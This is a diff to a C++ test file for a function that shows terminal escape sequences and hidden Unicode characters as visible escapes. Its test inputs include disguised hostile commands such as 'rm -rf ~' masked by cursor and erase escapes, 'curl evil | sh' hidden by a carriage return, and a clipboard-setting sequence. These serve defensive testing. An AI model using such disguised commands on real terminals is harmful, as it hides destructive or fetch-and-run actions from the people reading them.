@@ -2,6 +2,8 @@
 #include "core/visible.h"
 
 #include <catch2/catch.hpp>
+#include <iomanip>
+#include <sstream>
 #include <vector>
 
 #include "support/seed.h"
@@ -14,29 +16,52 @@ struct Row {
   std::string_view shown;
 };
 
-/// Whether a terminal may get it, found by the bytes alone and not by decoding.
-bool is_safe(const std::string& text) {
-  static const std::vector<std::string_view> kHidden = {
-      "\xD8\x9C",     "\xE2\x80\x8B", "\xE2\x80\x8C", "\xE2\x80\x8D", "\xE2\x80\x8E",
-      "\xE2\x80\x8F", "\xE2\x80\xA8", "\xE2\x80\xA9", "\xE2\x80\xAA", "\xE2\x80\xAB",
-      "\xE2\x80\xAC", "\xE2\x80\xAD", "\xE2\x80\xAE", "\xE2\x81\xA0", "\xE2\x81\xA6",
-      "\xE2\x81\xA7", "\xE2\x81\xA8", "\xE2\x81\xA9", "\xEF\xBB\xBF", "\xF3\xA0\x80",
-      "\xF3\xA0\x81"};
-  for (const std::string_view hidden : kHidden) {
-    if (text.find(hidden) != std::string::npos) return false;
+/// What is never shown as it is, one range for each line of the threat and of Unicode's list.
+bool is_hidden_code(uint32_t code) {
+  static const std::vector<std::pair<uint32_t, uint32_t>> kRanges = {
+      {0x00, 0x1f},      {0x7f, 0x7f},     {0x80, 0x9f},     {0x202a, 0x202e},   {0x2066, 0x2069},
+      {0x200b, 0x200f},  {0x2060, 0x2060}, {0xfeff, 0xfeff}, {0xe0000, 0xe007f}, {0xe0080, 0xe0fff},
+      {0x2028, 0x2029},  {0xad, 0xad},     {0x34f, 0x34f},   {0x61c, 0x61c},     {0x115f, 0x1160},
+      {0x17b4, 0x17b5},  {0x180b, 0x180f}, {0x2061, 0x2065}, {0x206a, 0x206f},   {0x3164, 0x3164},
+      {0xfe00, 0xfe0f},  {0xffa0, 0xffa0}, {0xfff0, 0xfff8}, {0xfff9, 0xfffb},   {0x1bca0, 0x1bca3},
+      {0x1d173, 0x1d17a}};
+  for (const auto& [first, last] : kRanges) {
+    if (code >= first && code <= last) return true;
   }
+  return false;
+}
+
+std::string utf8(uint32_t code) {
+  const auto byte = [](uint32_t bits) { return static_cast<char>(bits); };
+  const auto more = [&](uint32_t shift) { return byte(0x80 | (code >> shift & 0x3f)); };
+  if (code < 0x80) return {byte(code)};
+  if (code < 0x800) return {byte(0xc0 | code >> 6), more(0)};
+  if (code < 0x10000) return {byte(0xe0 | code >> 12), more(6), more(0)};
+  return {byte(0xf0 | code >> 18), more(12), more(6), more(0)};
+}
+
+/// Whether a terminal may get it: UTF-8 by the table of well-formed byte sequences, and nothing
+/// hidden in it but a selector right behind a shown character that is not ASCII.
+bool is_safe(const std::string& text) {
+  uint32_t before = 0;
   for (size_t i = 0; i < text.size();) {
     const auto byte = [&](size_t k) { return static_cast<unsigned char>(text.c_str()[i + k]); };
     const auto more = [&](size_t k) { return byte(k) >= 0x80 && byte(k) <= 0xbf; };
-    const bool one = byte(0) >= 0x20 && byte(0) < 0x7f;
-    const bool two =
-        byte(0) >= 0xc2 && byte(0) <= 0xdf && more(1) && !(byte(0) == 0xc2 && byte(1) < 0xa0);
+    const bool one = byte(0) < 0x80;
+    const bool two = byte(0) >= 0xc2 && byte(0) <= 0xdf && more(1);
     const bool three = byte(0) >= 0xe0 && byte(0) <= 0xef && more(1) && more(2) &&
                        !(byte(0) == 0xe0 && byte(1) < 0xa0) && !(byte(0) == 0xed && byte(1) > 0x9f);
     const bool four = byte(0) >= 0xf0 && byte(0) <= 0xf4 && more(1) && more(2) && more(3) &&
                       !(byte(0) == 0xf0 && byte(1) < 0x90) && !(byte(0) == 0xf4 && byte(1) > 0x8f);
     if (!one && !two && !three && !four) return false;
-    i += one ? 1 : two ? 2 : three ? 3 : 4;
+    const size_t length = one ? 1 : two ? 2 : three ? 3 : 4;
+    uint32_t code = one ? byte(0) : byte(0) & (0x7fU >> length);
+    for (size_t k = 1; k < length; ++k)
+      code = code << 6 | (byte(k) & 0x3fU);
+    const bool selector = (code == 0xfe0e || code == 0xfe0f) && before >= 0x80;
+    if (is_hidden_code(code) && !selector) return false;
+    before = selector ? 0 : code;
+    i += length;
   }
   return true;
 }
@@ -76,12 +101,70 @@ TEST_CASE("what a terminal would obey or hide is shown as text", "[visible]") {
   CHECK(visible(row.text) == row.shown);
 }
 
+TEST_CASE("b8: each code point is shown as it is, or as an escape if it is hidden", "[visible]") {
+  for (uint32_t code = 0; code < 0x110000; ++code) {
+    if (code >= 0xd800 && code <= 0xdfff) continue;
+    const std::string text = utf8(code);
+    const std::string shown = visible(text);
+    std::ostringstream escape;
+    escape << std::uppercase << std::hex;
+    if (!is_hidden_code(code)) {
+      escape << text;
+    } else if (code < 0x80) {
+      escape << "\\x" << std::setw(2) << std::setfill('0') << code;
+    } else {
+      escape << "\\u{" << code << "}";
+    }
+    if (shown != escape.str()) FAIL("U+" << std::hex << code << " is shown as " << shown);
+  }
+}
+
+TEST_CASE("b8: a variation selector stays behind an emoji only", "[visible]") {
+  const Row row = GENERATE(values<Row>({
+      {"\xE2\x9A\xA0\xEF\xB8\x8F ok", "\xE2\x9A\xA0\xEF\xB8\x8F ok"},
+      {"\xE2\x98\x80\xEF\xB8\x8E", "\xE2\x98\x80\xEF\xB8\x8E"},
+      {"lib.sh\xEF\xB8\x8F", "lib.sh\\u{FE0F}"},
+      {"\xEF\xB8\x8F", "\\u{FE0F}"},
+      {"\xE2\x9A\xA0\xEF\xB8\x8F\xEF\xB8\x8F", "\xE2\x9A\xA0\xEF\xB8\x8F\\u{FE0F}"},
+      {"\xE2\x9A\xA0\xEF\xB8\x80", "\xE2\x9A\xA0\\u{FE00}"},
+      {"\xE2\x80\x8B\xEF\xB8\x8F", "\\u{200B}\\u{FE0F}"},
+      {"\xFF\xEF\xB8\x8F", "\\xFF\\u{FE0F}"},
+      {"\xE2\x9A\xA0\xF3\xA0\x84\x80", "\xE2\x9A\xA0\\u{E0100}"},
+  }));
+  CHECK(visible(row.text) == row.shown);
+}
+
+TEST_CASE("b8: what was meant to cover text in a terminal is all there to be read", "[visible]") {
+  const Row row = GENERATE(values<Row>({
+      // the cursor goes up, the line is erased, the title and the clipboard are set
+      {"rm -rf ~\x1b[1A\x1b[2Kmake", "rm -rf ~\\x1B[1A\\x1B[2Kmake"},
+      {"\x1b]0;title\x07\x1b]52;c;eA==\x1b\\", "\\x1B]0;title\\x07\\x1B]52;c;eA==\\x1B\\"},
+      {"curl evil | sh\rexport A=1    ", "curl evil | sh\\x0Dexport A=1    "},
+      {"eval x\b\b\b\b\b\b# ok", "eval x\\x08\\x08\\x08\\x08\\x08\\x08# ok"},
+      {"A=\xE2\x80\xAE\xE2\x81\xA6# \xE2\x81\xA9", "A=\\u{202E}\\u{2066}# \\u{2069}"},
+      {"\xC2\x9B"
+       "2J\x9D"
+       "0;x",
+       "\\u{9B}2J\\x9D0;x"},
+  }));
+  CHECK(visible(row.text) == row.shown);
+}
+
+TEST_CASE("b8: what is hidden can be asked for, with its place", "[visible]") {
+  std::vector<std::pair<size_t, std::string>> found;
+  for_each_hidden("a\x1b\xC3\xA9\xE2\x80\xAE\xFFz\t",
+                  [&](size_t at, const std::string& shown) { found.emplace_back(at, shown); });
+  const std::vector<std::pair<size_t, std::string>> expected = {
+      {1, "\\x1B"}, {4, "\\u{202E}"}, {7, "\\xFF"}, {9, "\\x09"}};
+  CHECK(found == expected);
+}
+
 TEST_CASE("visible text of any bytes is safe, stays so, and is at most four times as long",
           "[visible]") {
   static const std::vector<std::string> kPieces = {
-      "\xE2",     "\x80", "\x81", "\xAE",         "\xF3\xA0\x80",
-      "\xED\xA0", "\xC2", "a",    "\xEF\xBB\xBF", "\xF0\x9F\x98\x80",
-      "\x1b["};
+      "\xE2",     "\x80",     "\x81", "\xAE",         "\xF3\xA0\x80",
+      "\xED\xA0", "\xC2",     "a",    "\xEF\xBB\xBF", "\xF0\x9F\x98\x80",
+      "\x1b[",    "\xEF\xB8", "\x8F", "\xAD"};
   std::mt19937_64 random(test::seed_for("visible"));
   bool is_fine = true;
   for (int i = 0; i < 50'000; ++i) {
